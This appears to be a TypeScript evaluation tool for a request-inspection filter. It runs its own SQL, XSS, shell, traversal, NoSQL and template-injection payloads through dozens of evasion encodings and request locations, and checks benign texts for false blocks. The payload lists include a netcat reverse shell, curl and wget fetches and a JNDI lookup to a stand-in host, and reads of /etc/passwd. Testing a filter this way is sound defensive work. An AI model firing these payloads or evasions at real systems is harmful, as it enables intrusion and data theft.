/**
 * Payloads of our own in every encoding and every place a request has, and benign texts in the same ones. Prints a table of what content
 * inspection blocks: `node packages/core/tools/evasion-matrix.ts`.
 */
import { findingsOf, requestOf, scoreOf } from "./evaluate-content.ts";

export type Family = "sql" | "script" | "shell" | "traversal" | "nosql" | "template";

/** Written for this table, from knowledge of the languages. */
// biome-ignore-start lint/suspicious/noTemplateCurlyInString: template expressions are the payloads.
export const PAYLOADS: Readonly<Record<Family, readonly string[]>> = {
  sql: [
    "7' or 'kelp'='kelp",
    "x' union select login,secret from members-- ",
    "12 and 3=3",
    "a'; drop table invoices;-- ",
    "9 or sleep(7)",
    "' or length(current_user)>2 or '",
    "4) or (8=8",
    "1 union all select null,null,version()",
    "z' and extractvalue(1,concat(0x7e,user()))-- ",
    "5;waitfor delay '0:0:9'--",
    "') or exists(select 1 from accounts)-- ",
    "3 order by 14-- ",
  ],
  script: [
    "<script>alert(document.domain)</script>",
    "<img src=q onerror=alert(3)>",
    '"><svg onload=confirm(9)>',
    "<a href=javascript:alert(4)>go</a>",
    "' onfocus=alert(5) autofocus='",
    "<iframe srcdoc='<b>x</b>'></iframe>",
    "<details open ontoggle=alert(6)>",
    "<body onpageshow=prompt(7)>",
    "';alert(8);//",
    "<video><source onerror=alert(2)></video>",
  ],
  shell: [
    "; cat /etc/passwd",
    "| id",
    "8.8.4.4 && whoami",
    "$(curl http://collector.example/x)",
    "`wget http://collector.example/y`",
    "|| ping -c 4 collector.example",
    "x; nc -e /bin/sh 198.51.100.4 4444",
    "a | powershell -enc SQBFAFgA",
    "& type C:\\windows\\win.ini",
  ],
  traversal: [
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "/var/www/../../etc/shadow",
    "....//....//....//etc/passwd",
    "../../../../../proc/self/environ",
    "php://filter/convert.base64-encode/resource=index",
    "file:///etc/passwd",
  ],
  nosql: [
    '{"$ne": null}',
    '{"$gt": ""}',
    "' || this.password.match(/a/) || '",
    "'; return true; var a='",
    '{"$where": "sleep(100)"}',
    "1'; db.users.drop(); var b='1",
  ],
  template: [
    "{{6*7}}",
    "${9*9}",
    "{{config.__class__.__init__.__globals__}}",
    "#{3*3}",
    "<%= 5*5 %>",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "{{self._TemplateReference__context}}",
    "${jndi:ldap://collector.example/a}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
  ],
};

// biome-ignore-end lint/suspicious/noTemplateCurlyInString: template expressions are the payloads.

/** Texts that must pass in the same clothes. */
export const BENIGN: readonly string[] = [
  "O'Brien & Sons, since 1904",
  "Please select a size or drop by the shop",
  "a<b and b>c, so a<c?",
  "We met at 5; then we left -- as always.",
  "Union members can order by phone",
  'Tom\'s "big" idea (draft 2)',
  "50% off on everything until 6/30",
  "C'est l'été à Orléans, n'est-ce pas?",
  "Is 3 > 2 or 2 > 3? Ask Ann; she knows.",
  "See chapter 4/5 #2 [notes] {draft}",
];

type Encode = (text: string) => string;

const each = (text: string, unit: (code: number, character: string) => string): string =>
  Array.from({ length: text.length }, (_, index) => unit(text.charCodeAt(index), text[index]!)).join("");
const hex = (code: number, width: number): string => code.toString(16).padStart(width, "0");
const special = (text: string, unit: (code: number) => string): string =>
  each(text, (code, character) => (/[A-Za-z0-9]/.test(character) ? character : unit(code)));
/** Two halves of one character are encoded together; a half without the other cannot be. */
const percent: Encode = (text) =>
  text.replace(/[^A-Za-z0-9]/gu, (character) =>
    character < "\u0080"
      ? `%${hex(character.charCodeAt(0), 2)}`
      : /^[\ud800-\udfff]$/u.test(character)
        ? "%EF%BF%BD"
        : encodeURIComponent(character),
  );
const everyPercent: Encode = (text) => each(text, (code, character) => (code < 128 ? `%${hex(code, 2)}` : character));
const base64: Encode = (text) => btoa(String.fromCharCode(...new TextEncoder().encode(text)));

/** Encodings beyond the one the place itself prescribes. */
export const ENCODINGS: Readonly<
  Record<string, { readonly encode: Encode; readonly only?: readonly Family[]; readonly not?: readonly Family[] }>
> = {
  plain: { encode: (text) => text },
  "mixed case": {
    encode: (text) =>
      each(text, (_, character) =>
        Math.abs(Math.imul(character.charCodeAt(0), 2654435761)) % 2 === 0 ? character.toUpperCase() : character,
      ),
    not: ["nosql", "template", "shell", "traversal"],
  },
  "percent once more": { encode: percent },
  "percent twice more": { encode: (text) => percent(percent(text)) },
  "percent three times more": { encode: (text) => percent(percent(percent(text))) },
  "every character percent": { encode: everyPercent },
  "percent upper case hex": { encode: (text) => percent(text).replace(/%[0-9a-f]{2}/g, (unit) => unit.toUpperCase()) },
  "%u of specials": { encode: (text) => special(text, (code) => `%u${hex(code, 4)}`) },
  "%u of everything": { encode: (text) => each(text, (code) => `%u${hex(code, 4)}`) },
  "\\u of specials": { encode: (text) => special(text, (code) => `\\u${hex(code, 4)}`) },
  "\\u{} of specials": { encode: (text) => special(text, (code) => `\\u{${code.toString(16)}}`) },
  "\\x of specials": { encode: (text) => special(text, (code) => (code < 256 ? `\\x${hex(code, 2)}` : String.fromCharCode(code))) },
  "\\x of everything": { encode: (text) => each(text, (code, character) => (code < 256 ? `\\x${hex(code, 2)}` : character)) },
  "octal of specials": {
    encode: (text) => special(text, (code) => (code < 128 ? `\\${code.toString(8).padStart(3, "0")}` : String.fromCharCode(code))),
  },
  "decimal references": { encode: (text) => special(text, (code) => `&#${code};`) },
  "hexadecimal references": { encode: (text) => special(text, (code) => `&#x${code.toString(16)};`) },
  "padded references": { encode: (text) => special(text, (code) => `&#${String(code).padStart(7, "0")};`) },
  "references of everything": { encode: (text) => each(text, (code) => `&#${code};`) },
  "references, percent on top": { encode: (text) => percent(special(text, (code) => `&#${code};`)) },
  "overlong two bytes": {
    encode: (text) =>
      special(text, (code) => (code < 128 ? `%${hex(0xc0 | (code >> 6), 2)}%${hex(0x80 | (code & 63), 2)}` : String.fromCharCode(code))),
  },
  "overlong three bytes": {
    encode: (text) =>
      special(text, (code) => (code < 128 ? `%e0%${hex(0x80 | (code >> 6), 2)}%${hex(0x80 | (code & 63), 2)}` : String.fromCharCode(code))),
  },
  "full width": {
    encode: (text) => each(text, (code, character) => (code > 32 && code < 127 ? String.fromCharCode(code + 0xfee0) : character)),
  },
  "full width specials": {
    encode: (text) => special(text, (code) => (code > 32 && code < 127 ? String.fromCharCode(code + 0xfee0) : String.fromCharCode(code))),
  },
  "zero width inside": { encode: (text) => each(text, (code, character) => (code > 96 && code < 123 ? `${character}\u200b` : character)) },
  "NUL inside": { encode: (text) => each(text, (code, character) => (code > 96 && code < 123 ? `${character}\0` : character)) },
  "vertical tabs for blanks": { encode: (text) => text.replaceAll(" ", "\v") },
  "no-break blanks": { encode: (text) => text.replaceAll(" ", "\u00a0") },
  "tabs for blanks": { encode: (text) => text.replaceAll(" ", "\t") },
  "line breaks for blanks": { encode: (text) => text.replaceAll(" ", "\n") },
  "plus for blanks": { encode: (text) => percent(text).replaceAll("%20", "+") },
  "comments for blanks": { encode: (text) => text.trimEnd().replaceAll(" ", "/**/"), only: ["sql"] },
  "long comments for blanks": { encode: (text) => text.trimEnd().replaceAll(" ", "/*kelp*/"), only: ["sql"] },
  "executed comments": { encode: (text) => text.replace(/\b(or|and|union|select|order|exists)\b/g, "/*!50000$1*/"), only: ["sql"] },
  base64: { encode: base64 },
  base64url: { encode: (text) => base64(text).replaceAll("+", "-").replaceAll("/", "_").replaceAll("=", "") },
  "JSON around it": { encode: (text) => JSON.stringify({ a: { b: text } }) },
  "JSON in JSON": { encode: (text) => JSON.stringify({ a: JSON.stringify({ b: text }) }) },
  "prose before it": { encode: (text) => `thanks ${text}`, only: ["script", "template"] },
  "prose behind it": { encode: (text) => `${text} thanks`, only: ["script", "template"] },
  "16 KiB before it": { encode: (text) => `${"kelp ".repeat(3277)}${text}`, only: ["script", "template"] },
};

interface Shape {
  readonly url: string;
  readonly headers: Record<string, string>;
  readonly body: string | null;
}

const get = (url: string, headers: Record<string, string> = {}): Shape => ({ url, headers, body: null });
const post = (type: string, body: string): Shape => ({ url: "/form", headers: type === "" ? {} : { "content-type": type }, body });
const query = encodeURIComponent;
const markup = (text: string): string =>
  text.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll(">", "&gt;").replaceAll('"', "&quot;");
const line = (text: string): string => text.replace(/[\r\n\0]/g, " ");

/** Places of a request. */
export const PLACES: Readonly<Record<string, { readonly put: (text: string) => Shape; readonly not?: readonly Family[] }>> = {
  "query value": { put: (text) => get(`/p?q=${query(text)}`) },
  "query value among others": { put: (text) => get(`/p?page=2&sort=new&q=${query(text)}&lang=en`) },
  "query name": { put: (text) => get(`/p?${query(text)}=1`) },
  "query without a name": { put: (text) => get(`/p?${query(text)}`), not: ["nosql"] },
  "path segment": { put: (text) => get(`/items/${query(text)}/view`), not: ["nosql"] },
  "last path segment": { put: (text) => get(`/items/${query(text)}`), not: ["nosql"] },
  "form value": { put: (text) => post("application/x-www-form-urlencoded", `a=1&q=${query(text)}`) },
  "form name": { put: (text) => post("application/x-www-form-urlencoded", `${query(text)}=1`) },
  "JSON value": { put: (text) => post("application/json", JSON.stringify({ q: text })) },
  "JSON value, escaped": { put: (text) => post("application/json", `{"q":"${each(text, (code) => `\\u${hex(code, 4)}`)}"}`) },
  "JSON twelve deep": { put: (text) => post("application/json", `${'{"a":['.repeat(12)}${JSON.stringify(text)}${"]}".repeat(12)}`) },
  "JSON name": { put: (text) => post("application/json", JSON.stringify({ [text]: 1 })) },
  "JSON declared as a form": { put: (text) => post("application/x-www-form-urlencoded", JSON.stringify({ q: text })) },
  "JSON undeclared": { put: (text) => post("", JSON.stringify({ q: text })) },
  NDJSON: { put: (text) => post("application/x-ndjson", `{"a":1}\n${JSON.stringify({ q: text })}\n`) },
  "GraphQL variable": {
    put: (text) => post("application/json", JSON.stringify({ query: "query($q:String){find(q:$q){id}}", variables: { q: text } })),
  },
  "multipart value": {
    put: (text) =>
      post("multipart/form-data; boundary=kelp", `--kelp\r\ncontent-disposition: form-data; name="q"\r\n\r\n${text}\r\n--kelp--\r\n`),
  },
  "multipart, bare boundary, no CR": {
    put: (text) => post('multipart/form-data; boundary="kelp"', `--kelp\nContent-Disposition: form-data; name=q\n\n${text}\n--kelp--\n`),
  },
  "XML text": { put: (text) => post("application/xml", `<?xml version="1.0"?><a><b>${markup(text)}</b></a>`) },
  "XML attribute": { put: (text) => post("application/xml", `<?xml version="1.0"?><a b="${markup(text)}"/>`) },
  "XML CDATA": { put: (text) => post("text/xml", `<?xml version="1.0"?><a><![CDATA[${text}]]></a>`) },
  "plain text body": { put: (text) => post("text/plain", text) },
  cookie: { put: (text) => get("/p", { cookie: `sid=1; q=${query(text)}` }) },
  referer: { put: (text) => get("/p", { referer: `https://www.example.com/?q=${query(text)}` }) },
  "user agent": { put: (text) => get("/p", { "user-agent": line(text) }) },
  "custom header": { put: (text) => get("/p", { "x-tenant": line(text) }) },
  "forwarded host": { put: (text) => get("/p", { "x-forwarded-host": line(text) }) },
};

/** True when content inspection blocks `text` in that place and encoding. */
export function isBlocked(place: string, encoding: string, text: string): boolean {
  const shape = PLACES[place]!.put(ENCODINGS[encoding]!.encode(text));
  const request = requestOf({
    id: "",
    label: "",
    class: "",
    method: shape.body === null ? "GET" : "POST",
    url: shape.url,
    headers: { host: "www.example.com", ...shape.headers },
    body: shape.body,
  });
  return scoreOf(findingsOf(request)) >= 100;
}

export interface Cell {
  readonly family: Family;
  readonly name: string;
  readonly tried: number;
  readonly missed: readonly string[];
}

/** Every encoding in a query value and a JSON value, and every place unencoded: one cell for each family. */
export function cells(): Cell[] {
  const result: Cell[] = [];
  for (const family of Object.keys(PAYLOADS) as Family[]) {
    for (const [name, { only, not }] of Object.entries(ENCODINGS)) {
      if ((only !== undefined && !only.includes(family)) || not?.includes(family)) continue;
      const missed: string[] = [];
      for (const payload of PAYLOADS[family])
        for (const place of ["query value", "JSON value"]) if (!isBlocked(place, name, payload)) missed.push(`${place}: ${payload}`);
      result.push({ family, name, tried: PAYLOADS[family].length * 2, missed });
    }
    for (const [name, { not }] of Object.entries(PLACES)) {
      if (not?.includes(family)) continue;
      const missed = PAYLOADS[family].filter((payload) => !isBlocked(name, "plain", payload));
      result.push({ family, name: `in ${name}`, tried: PAYLOADS[family].length, missed });
    }
  }
  return result;
}

/** Benign texts that are blocked in some encoding or place. */
export function wronglyBlocked(): string[] {
  const result: string[] = [];
  for (const text of BENIGN) {
    for (const [encoding, { only }] of Object.entries(ENCODINGS)) {
      if (only !== undefined) continue;
      for (const place of ["query value", "JSON value"])
        if (isBlocked(place, encoding, text)) result.push(`${place}, ${encoding}: ${text}`);
    }
    for (const place of Object.keys(PLACES)) if (isBlocked(place, "plain", text)) result.push(`${place}: ${text}`);
  }
  return result;
}

if (process.argv[1]?.endsWith("evasion-matrix.ts") === true) {
  const all = cells();
  for (const family of Object.keys(PAYLOADS)) {
    const own = all.filter((cell) => cell.family === family);
    const tried = own.reduce((sum, cell) => sum + cell.tried, 0);
    const missed = own.reduce((sum, cell) => sum + cell.missed.length, 0);
    console.log(`${family.padEnd(10)} ${(100 - (100 * missed) / tried).toFixed(1)} % of ${tried}`);
  }
  const names = [...new Set(all.map((cell) => cell.name))];
  for (const name of names) {
    const own = all.filter((cell) => cell.name === name);
    const tried = own.reduce((sum, cell) => sum + cell.tried, 0);
    const missed = own.flatMap((cell) => cell.missed.map((text) => `${cell.family} ${text}`));
    if (missed.length > 0)
      console.log(`${name.padEnd(34)} ${(100 - (100 * missed.length) / tried).toFixed(1)} %  ${missed.slice(0, 12).join(" | ")}`);
  }
  console.log(
    `${Object.keys(ENCODINGS).length} encodings, ${Object.keys(PLACES).length} places; benign blocked: ${wronglyBlocked().join(" | ") || "none"}`,
  );
}
